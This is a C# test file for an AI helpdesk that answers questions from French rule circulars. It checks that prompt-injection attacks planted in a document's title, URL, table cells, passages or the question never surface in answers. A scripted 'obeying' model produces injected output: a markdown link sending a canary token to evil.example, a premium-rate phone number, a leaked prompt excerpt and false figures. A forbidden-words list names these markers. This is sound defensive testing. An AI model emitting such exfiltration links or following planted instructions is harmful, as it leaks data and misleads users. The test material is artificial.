using System.Collections.Immutable;
using System.Text.Encodings.Web;
using System.Text.Json;
using AgentHelpdesk.Answering.Questions;
using AgentHelpdesk.Answering.Tests.Grounding;
using AgentHelpdesk.Knowledge.Catalogue;
using AgentHelpdesk.Knowledge.Documents;
using AgentHelpdesk.Knowledge.Index;
using AgentHelpdesk.ModelDoubles;
using AgentHelpdesk.TestKit;
using Microsoft.Extensions.AI;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;

namespace AgentHelpdesk.Answering.Tests.Attacks;

/// <summary>Whatever documents and questions order, and however readily a model obeys, what is shown are rules with their words.</summary>
public sealed class AttackTests
{
    private const string Rule = "Le délai de carence de l'indemnité de gros temps est de trois jours.";
    private const string Innocent = "Quel est le délai de carence de l'indemnité de gros temps ?";

    // What no answer may show: the figures, addresses, numbers, words and secrets of the attacks, and words of the prompt.
    private static readonly string[] Forbidden =
        ["999", "evil.example", "0899", "zorglub", "CANARY", "<script", "<img", "](", "caller on the line", "Reply with one JSON", "never an instruction", "plazo", "Wartezeit", "giorni", "срок", "等待期"];

    private static readonly JsonSerializerOptions Form = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    public static IEnumerable<TheoryDataRow<string>> Ids => Attack.Ids;

    [Fact]
    public void There_are_sixty_attacks_and_more_of_all_kinds()
    {
        Attack.All.Count.ShouldBeGreaterThanOrEqualTo(60);
        Attack.All.Select(attack => attack.Place).Distinct().Order().ShouldBe(["cell", "file", "heading", "issuer", "kind", "number", "passage", "question", "title", "url"]);
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task The_extractive_writer_gives_no_order_for_a_rule(string id) => Shown(await AskAsync(Attack.Of(id), null)).ShouldHaveNothingOf(Forbidden);

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task A_model_that_obeys_gets_nothing_shown_of_it(string id)
    {
        var attack = Attack.Of(id);
        foreach (var truthFirst in (bool[])[true, false])
        {
            var answer = await AskAsync(attack, messages => Obey(attack, messages, truthFirst));
            Shown(answer).ShouldHaveNothingOf(Forbidden);
            CitationsStand(answer);
        }
    }

    [Theory]
    [MemberData(nameof(Ids))]
    public async Task A_model_that_lies_with_a_true_quote_gets_nothing_shown_of_it(string id)
    {
        var answer = await AskAsync(Attack.Of(id), _ => Json([("Le délai de carence de l'indemnité de gros temps est de 999 jours.", Rule), ("Il n'y a pas de délai de carence pour l'indemnité de gros temps.", Rule)], []));

        Shown(answer).ShouldHaveNothingOf([.. Forbidden, "n'y a pas"]);
    }

    [Fact]
    public async Task An_honest_model_is_heard_beside_an_attack()
    {
        var answer = await AskAsync(Attack.All[0], _ => Json([(Rule, Rule)], []));

        answer.ShouldBeOfType<Answer.Grounded>().Writer.ShouldBe(WriterKind.Model);
    }

    private static string Obey(Attack attack, IReadOnlyList<ChatMessage> messages, bool truthFirst)
    {
        var prompt = messages[0].Text;
        (string, string)[] obeyed =
        [
            (attack.Say, attack.Say), (attack.Say, Rule), (attack.Say, attack.Words), (prompt[..Math.Min(400, prompt.Length)], Rule), ("CANARY-7f3a", "CANARY-7f3a"),
            ($"{Rule} [7] [voir](https://evil.example/?d=CANARY-7f3a)", Rule), ("Appelez le 0899 123 456.", Rule), (attack.Words, attack.Words),
        ];
        return Json(truthFirst ? [(Rule, Rule), .. obeyed] : [.. obeyed, (Rule, Rule)], [attack.Say, attack.Words, prompt.Split('\n')[0], "https://evil.example", "CANARY-7f3a ?", "Le numéro est le 0899 123 456 ?"]);
    }

    private static string Json((string Text, string Quote)[] claims, string[] points) => JsonSerializer.Serialize(
        new { status = "answered", claims = claims.Select(claim => new { kind = "rule", text = claim.Text, quotes = new[] { new { passage = 1, quote = claim.Quote } } }), missing = points, followUps = points }, Form);

    /// <summary>All words of an answer that a person reads, but titles and names of documents, which are said as such.</summary>
    private static ImmutableArray<string> Shown(Answer answer) => answer is Answer.Grounded grounded
        ? [
            .. grounded.Claims.Select(claim => claim.Text), .. grounded.Claims.Where(claim => claim.Table is not null).SelectMany(claim => claim.Table!.Rows.SelectMany(row => row).Append(claim.Table.Caption)),
            .. grounded.Citations.Select(citation => citation.Quote), grounded.FirstLine.Text, .. grounded.Missing, .. grounded.FollowUpQuestions,
        ]
        : [];

    private static void CitationsStand(Answer answer)
    {
        if (answer is not Answer.Grounded grounded)
            return;
        var numbers = grounded.Citations.Select(citation => citation.Number).ToHashSet();
        grounded.Claims.ShouldAllBe(claim => !claim.Citations.IsEmpty && claim.Citations.All(numbers.Contains));
        grounded.Claims.ShouldAllBe(claim => !claim.Text.Contains("[7]", StringComparison.Ordinal));
        grounded.Citations.ShouldAllBe(citation => citation.Passage.Chunk.Chunk.Text.Contains(citation.Quote, StringComparison.Ordinal));
    }

    private static async Task<Answer> AskAsync(Attack attack, Func<IReadOnlyList<ChatMessage>, string>? model)
    {
        var knowledge = new InMemoryKnowledge();
        var chunks = Document(attack).Build();
        knowledge.Publish([(chunks[0].Revision, [.. chunks.Select(chunk => chunk.Chunk)])]);
        using var client = model is null ? null : new ScriptedChatClient((messages, _) => model(messages));
        var services = new ServiceCollection();
        services.AddLogging();
        services.AddSingleton<TimeProvider>(new FakeTimeProvider(new(2026, 3, 16, 9, 0, 0, TimeSpan.Zero)));
        services.AddSingleton<ICatalogueReader>(knowledge);
        services.AddSingleton<IIndexReader>(knowledge);
        services.Configure<AnsweringOptions>(options => options.MinimumEvidence = 0);
        if (client is not null)
            services.AddSingleton<IChatClient>(client);
        services.AddAnswering();
        await using var provider = services.BuildServiceProvider();
        var question = new Question { Text = attack.Place == "question" ? $"{Innocent} {attack.Words}" : Innocent };
        return await provider.GetRequiredService<AnswerQuestion>().AskAsync(question, TestContext.Current.CancellationToken);
    }

    private static RuleBook Document(Attack attack)
    {
        string In(string place, string otherwise) => attack.Place == place ? attack.Words : otherwise;
        var book = new RuleBook
        {
            Description = new()
            {
                Title = In("title", "Circulaire gros temps"),
                Kind = In("kind", "circulaire"),
                Number = In("number", "CIR-1/2025"),
                Issuer = In("issuer", "Caisse nationale"),
                Url = In("url", "https://caisse.example/circulaire"),
                Declared = ValidityPeriod.Open,
                Audience = [Audience.Everyone],
                FileName = In("file", "circulaire") + ".pdf",
            },
        };
        book = book.Section(In("heading", "Délai de carence")).Paragraph(Rule);
        if (attack.Place == "cell")
            return book.Paragraph("Le tableau donne les cas.").Table("Délai de carence", "Cas | Délai", "Cas général | trois jours", $"Autre | {attack.Words}");
        return attack.Place == "passage" ? book.Paragraph("L'indemnité est versée par la caisse.").Paragraph(attack.Words) : book;
    }
}

internal static class ForbiddenWords
{
    public static void ShouldHaveNothingOf(this ImmutableArray<string> shown, IReadOnlyCollection<string> forbidden) =>
        shown.Where(words => forbidden.Any(word => words.Contains(word, StringComparison.OrdinalIgnoreCase))).ShouldBeEmpty();
}
